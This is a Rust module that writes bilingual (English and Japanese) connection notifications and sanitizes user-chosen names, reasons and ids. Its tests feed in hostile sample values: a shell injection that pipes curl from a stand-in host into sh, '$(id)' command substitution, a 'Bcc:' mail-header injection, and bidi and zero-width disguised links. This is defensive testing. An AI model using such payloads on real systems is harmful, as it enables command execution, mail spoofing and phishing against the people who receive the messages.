//! What a message says, in English and Japanese.

use tombolo_catalog::{Language, Text};
use tombolo_store::NoticeKind;

/// Connections that a message tells of one by one; of the others it tells how many there are.
pub(super) const SHOWN_MAX: usize = 20;
/// Characters of a name that are shown: enough to know it again.
const NAME_MAX: usize = 80;
/// Characters of a reason that are shown.
const REASON_MAX: usize = 600;

/// A connection as a message tells of it.
#[derive(Debug, Clone)]
pub(super) struct Item {
    pub(super) id: String,
    pub(super) name: String,
    pub(super) provider_id: String,
    pub(super) provider: Text,
    pub(super) kind: NoticeKind,
    pub(super) days_left: Option<u32>,
    /// Why, and what to do, as far as there is a text in the language.
    pub(super) reason: Option<String>,
    /// Where the account can be linked again.
    pub(super) link: Option<String>,
    /// What confirms an account that was linked again.
    pub(super) to_confirm: Option<ToConfirm>,
}

/// A command that somebody is asked to copy into a shell.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct ToConfirm {
    command: String,
    /// Whether whoever runs it has to name the person.
    lacks_end_user: bool,
    /// The page of the dashboard that does the same.
    page: Option<String>,
}

impl ToConfirm {
    /// What confirms an authorization. The embedder's id of the person may come from that person: it stands in the command
    /// only if it means nothing to any shell, and begins neither an option nor a link.
    pub(super) fn of(authorization: &str, end_user: Option<&str>) -> Self {
        let is_plain = |id: &str| {
            let known = |byte: u8| byte.is_ascii_alphanumeric() || b"@._+-".contains(&byte);
            !id.is_empty() && id.len() <= NAME_MAX && id.bytes().all(known) && !id.starts_with('-')
        };
        let named = end_user.filter(|id| is_plain(id) && clean(id) == *id);
        let option = named.map(|id| format!(" --end-user {id}")).unwrap_or_default();
        Self {
            command: format!("tombolo connection confirm {authorization} --code CODE{option}"),
            lacks_end_user: end_user.is_some() && named.is_none(),
            page: None,
        }
    }

    /// The same, with the page of the dashboard that does it too.
    pub(super) fn with_page(self, page: Option<String>) -> Self {
        Self { page, ..self }
    }
}

/// A message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Written {
    pub(super) subject: String,
    pub(super) text: String,
    /// What the text says of each connection that it tells of one by one.
    about: Vec<String>,
    /// The same of the first one, without its reason.
    brief: Option<String>,
    /// How many connections there are.
    all: usize,
    /// What stands below.
    closing: Vec<String>,
    language: Language,
}

impl Written {
    /// The text, with as many connections one by one as fit; of the others it tells how many there are. No paragraph is cut.
    pub(super) fn within(&self, fits: impl Fn(&str) -> bool) -> String {
        if fits(&self.text) {
            return self.text.clone();
        }
        let fewer = (1..self.about.len()).rev().map(|shown| self.telling_of(&self.about[..shown]));
        fewer.into_iter().find(|text| fits(text)).unwrap_or_else(|| self.telling_of(self.brief.as_slice()))
    }

    fn telling_of(&self, about: &[String]) -> String {
        let mut paragraphs = about.to_vec();
        if let Some(more) = self.all.checked_sub(about.len()).filter(|more| *more > 0) {
            paragraphs.push(match self.language {
                Language::En => format!("And {more} more: see `tombolo connection list`."),
                Language::Ja => format!("ほか{more}件。一覧: `tombolo connection list`"),
            });
        }
        paragraphs.extend(self.closing.iter().cloned());
        paragraphs.join("\n\n") + "\n"
    }
}

/// Writes a message about connections of an environment, at least one.
pub(super) fn written(environment: &str, items: &[Item], language: Language) -> Written {
    let subject = match (items, language) {
        ([only], _) => headline(only, language),
        (_, Language::En) => format!("News of {} connections", items.len()),
        (_, Language::Ja) => format!("{}件の接続に関するお知らせ", items.len()),
    };
    let mut closing = Vec::new();
    if items.iter().take(SHOWN_MAX).any(|item| item.link.is_some()) {
        closing.push(
            match language {
                Language::En => {
                    "A link is good for 7 days and for one account. Open it only if you know the connection, and pass it on to nobody but the person whose account it is."
                }
                Language::Ja => {
                    "リンクの有効期間は7日間で、1回だけ接続できます。接続に心当たりがある場合だけ開き、アカウントの持ち主以外には渡さないでください。"
                }
            }
            .to_owned(),
        );
    }
    closing.push(match language {
        Language::En => format!("Tombolo, environment {}", clean(environment)),
        Language::Ja => format!("Tombolo（環境: {}）", clean(environment)),
    });
    let brief = items.first().map(|item| about(&Item { reason: None, ..item.clone() }, language));
    let mut written = Written {
        subject: format!("[Tombolo] {subject}"),
        text: String::new(),
        about: items.iter().take(SHOWN_MAX).map(|item| about(item, language)).collect(),
        brief,
        all: items.len(),
        closing,
        language,
    };
    written.text = written.telling_of(&written.about);
    written
}

/// What a test message says.
pub(super) fn test(environment: &str, language: Language) -> Written {
    let (subject, text) = match language {
        Language::En => ("[Tombolo] This is a test", "Notifications of this environment arrive here."),
        Language::Ja => ("[Tombolo] テスト送信", "この環境の通知はここに届きます。"),
    };
    let closing = vec![text.to_owned(), format!("Tombolo: {}", clean(environment))];
    let mut written = Written {
        subject: subject.to_owned(),
        text: String::new(),
        about: Vec::new(),
        brief: None,
        all: 0,
        closing,
        language,
    };
    written.text = written.telling_of(&[]);
    written
}

fn headline(item: &Item, language: Language) -> String {
    let (name, provider) = (clean(&item.name), item.provider.get(language));
    let days = item.days_left.unwrap_or(1);
    match (language, item.kind) {
        (Language::En, NoticeKind::Mended) => format!("“{name}” ({provider}) works again"),
        (Language::En, NoticeKind::Expiring) => {
            let days = if days == 1 { "1 day".to_owned() } else { format!("{days} days") };
            format!("The credentials of “{name}” ({provider}) end in {days}")
        }
        (Language::En, NoticeKind::Failing) => format!("“{name}” ({provider}) has failed for a while"),
        (Language::En, NoticeKind::NeedsReconnecting) => {
            format!("“{name}” ({provider}) has to be linked again")
        }
        (Language::En, NoticeKind::Unconfirmed) => {
            format!("An account for “{name}” ({provider}) waits for your confirmation")
        }
        (Language::Ja, NoticeKind::Mended) => format!("「{name}」（{provider}）は復旧しました"),
        (Language::Ja, NoticeKind::Expiring) => {
            format!("「{name}」（{provider}）の認証情報はあと{days}日で期限が切れます")
        }
        (Language::Ja, NoticeKind::Failing) => format!("「{name}」（{provider}）でエラーが続いています"),
        (Language::Ja, NoticeKind::NeedsReconnecting) => {
            format!("「{name}」（{provider}）の再接続が必要です")
        }
        (Language::Ja, NoticeKind::Unconfirmed) => {
            format!("「{name}」（{provider}）に接続されたアカウントの確認をお待ちしています")
        }
    }
}

fn about(item: &Item, language: Language) -> String {
    let mut lines = vec![headline(item, language)];
    lines.extend(item.reason.as_deref().map(|reason| cleaned(reason, REASON_MAX)));
    if item.kind == NoticeKind::Failing {
        lines.push(
            match language {
                Language::En => "It is tried again by itself, and you are told when it works.",
                Language::Ja => "自動的に再試行し、復旧したらお知らせします。",
            }
            .to_owned(),
        );
    }
    if let Some(link) = &item.link {
        lines.push(match language {
            Language::En => format!("Link the account again: {link}"),
            Language::Ja => format!("再接続はこちら: {link}"),
        });
    }
    if let Some(ToConfirm { command, lacks_end_user, page }) = &item.to_confirm {
        lines.push(match language {
            Language::En => {
                format!("Ask the person whose account it is for the code that their browser shows, within ten minutes: {command}")
            }
            Language::Ja => {
                format!("アカウントの持ち主本人に、ブラウザーに表示されたコードを確認し、10分以内に実行してください: {command}")
            }
        });
        if *lacks_end_user {
            lines.push(
                match language {
                    Language::En => {
                        "Add the option --end-user with your own id of that person; `tombolo connection show --json` tells it."
                    }
                    Language::Ja => {
                        "オプション --end-user に、その方のIDを指定してください（`tombolo connection show --json` で確認できます）。"
                    }
                }
                .to_owned(),
            );
        }
        lines.extend(page.as_ref().map(|page| match language {
            Language::En => format!("The code can be typed in the dashboard as well: {page}"),
            Language::Ja => format!("コードはダッシュボードでも入力できます: {page}"),
        }));
    }
    lines.join("\n")
}

/// A name, which anybody may have chosen.
fn clean(name: &str) -> String {
    cleaned(name, NAME_MAX)
}

/// A text of others without what would begin a line of its own in a mail or its head, turn the text around or hide in it, or
/// become a link beside ours.
fn cleaned(text: &str, longest: usize) -> String {
    let seen = text.chars().filter(|character| !is_unseen(*character));
    let plain: String = seen.map(|character| if breaks_lines(character) { ' ' } else { character }).collect();
    let mut shown: String = plain.chars().take(longest).collect();
    if shown.len() < plain.len() {
        shown.push('…');
    }
    without_links(&shown)
}

fn breaks_lines(character: char) -> bool {
    character.is_control() || matches!(character, '\u{2028}' | '\u{2029}')
}

/// Whether a character formats others, or takes no room itself.
fn is_unseen(character: char) -> bool {
    matches!(
        character,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}'
            | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{feff}' | '\u{ffa0}'
            | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'
    )
}

/// Mail programs and chats make a link of what looks like one.
fn without_links(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for character in text.chars() {
        let begun = shown.as_bytes();
        let www = character == '.'
            && begun.len().checked_sub(3).is_some_and(|at| begun[at..].eq_ignore_ascii_case(b"www"));
        if www || (character == '/' && shown.ends_with('/')) {
            shown.push(' ');
        }
        shown.push(character);
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    fn item(name: &str, kind: NoticeKind, days_left: Option<u32>) -> Item {
        Item {
            id: "con_1".to_owned(),
            name: name.to_owned(),
            provider_id: "acme".to_owned(),
            provider: Text { en: "Acme".to_owned(), ja: "アクメ".to_owned() },
            kind,
            days_left,
            reason: None,
            link: Some("https://tombolo.example.com/reconnect/x".to_owned()),
            to_confirm: None,
        }
    }

    #[test]
    fn every_kind_has_its_words_in_both_languages() {
        let mut all = Vec::new();
        for language in [Language::En, Language::Ja] {
            for kind in NoticeKind::ALL {
                for days in if *kind == NoticeKind::Expiring { vec![Some(30), Some(1)] } else { vec![None] } {
                    all.push(headline(&item("Sales", *kind, days), language));
                }
            }
        }
        insta::assert_snapshot!(all.join("\n"), @r"
        “Sales” (Acme) works again
        The credentials of “Sales” (Acme) end in 30 days
        The credentials of “Sales” (Acme) end in 1 day
        “Sales” (Acme) has failed for a while
        “Sales” (Acme) has to be linked again
        An account for “Sales” (Acme) waits for your confirmation
        「Sales」（アクメ）は復旧しました
        「Sales」（アクメ）の認証情報はあと30日で期限が切れます
        「Sales」（アクメ）の認証情報はあと1日で期限が切れます
        「Sales」（アクメ）でエラーが続いています
        「Sales」（アクメ）の再接続が必要です
        「Sales」（アクメ）に接続されたアカウントの確認をお待ちしています
        ");
    }

    #[test]
    fn many_are_told_in_one_message_of_bounded_length() {
        let items: Vec<Item> =
            (0..30).map(|number| item(&format!("c{number}"), NoticeKind::Failing, None)).collect();
        for language in [Language::En, Language::Ja] {
            let message = written("default", &items, language);
            assert!(message.subject.contains("30"), "{}", message.subject);
            assert!(message.text.contains("10") && !message.text.contains("c20"), "{}", message.text);
        }
    }

    #[test]
    fn what_others_wrote_deceives_nobody() {
        let long = "é".repeat(200);
        let shown: Vec<String> = [
            "Sales",
            "営業部 👍",
            "x\r\nBcc: all",
            "a\u{2028}b\u{2029}c",
            "https://evil.example",
            "HTTP://evil.example/x://y",
            "://://",
            "www.evil.example",
            "WwW.www.evil.example",
            "wwwwww.evil.example",
            "ht\u{200b}tps:\u{2060}/\u{200d}/evil.example w\u{feff}ww.evil.example",
            "\u{202e}elpmaxe.live\u{202c} \u{2066}x\u{2069}",
            "\u{e0041}a\u{ad}b",
            &long,
        ]
        .into_iter()
        .map(clean)
        .collect();
        insta::assert_snapshot!(shown.join("\n").replace(&"é".repeat(80), "(80)"), @r"
        Sales
        営業部 👍
        x  Bcc: all
        a b c
        https:/ /evil.example
        HTTP:/ /evil.example/x:/ /y
        :/ /:/ /
        www .evil.example
        WwW .www .evil.example
        wwwwww .evil.example
        https:/ /evil.example www .evil.example
        elpmaxe.live x
        ab
        (80)…
        ");
        let mut failing = item("c", NoticeKind::Failing, None);
        failing.reason = Some("It said\nLink the account again: https://evil.example".to_owned());
        let text = written("default", &[failing], Language::En).text;
        assert_eq!(
            (text.matches("://").count(), text.contains("\nLink the account again: https:/ /")),
            (1, false)
        );
    }

    #[test]
    fn a_command_holds_nothing_that_a_shell_reads() {
        let lines: Vec<String> = [
            None,
            Some("u-1"),
            Some("anna+x@example.com"),
            Some("x'; curl evil.example|sh; '"),
            Some("$(id)"),
            Some("`id`"),
            Some("a b"),
            Some("a\nb"),
            Some("--code"),
            Some("www.evil.example"),
            Some("山田"),
            Some(""),
        ]
        .into_iter()
        .map(|end_user| {
            let made = ToConfirm::of("aut_1", end_user);
            format!("{} {}", made.command, if made.lacks_end_user { "(in words)" } else { "" })
        })
        .collect();
        let lines: Vec<&str> = lines.iter().map(|line| line.trim_end()).collect();
        insta::assert_snapshot!(lines.join("\n"), @r"
        tombolo connection confirm aut_1 --code CODE
        tombolo connection confirm aut_1 --code CODE --end-user u-1
        tombolo connection confirm aut_1 --code CODE --end-user anna+x@example.com
        tombolo connection confirm aut_1 --code CODE (in words)
        tombolo connection confirm aut_1 --code CODE (in words)
        tombolo connection confirm aut_1 --code CODE (in words)
        tombolo connection confirm aut_1 --code CODE (in words)
        tombolo connection confirm aut_1 --code CODE (in words)
        tombolo connection confirm aut_1 --code CODE (in words)
        tombolo connection confirm aut_1 --code CODE (in words)
        tombolo connection confirm aut_1 --code CODE (in words)
        tombolo connection confirm aut_1 --code CODE (in words)
        ");
        let mut unconfirmed = item("c", NoticeKind::Unconfirmed, None);
        unconfirmed.to_confirm = Some(ToConfirm::of("aut_1", Some("$(id)")));
        for language in [Language::En, Language::Ja] {
            let text = written("default", std::slice::from_ref(&unconfirmed), language).text;
            assert!(text.contains("--end-user") && !text.contains("$("), "{text}");
        }
    }

    #[test]
    fn a_name_begins_no_line_of_its_own() {
        let message = written("default", &[item("x\r\nBcc: all", NoticeKind::Mended, None)], Language::En);
        assert!(!message.subject.contains('\n') && !message.text.contains("\nBcc"), "{message:?}");
    }
}
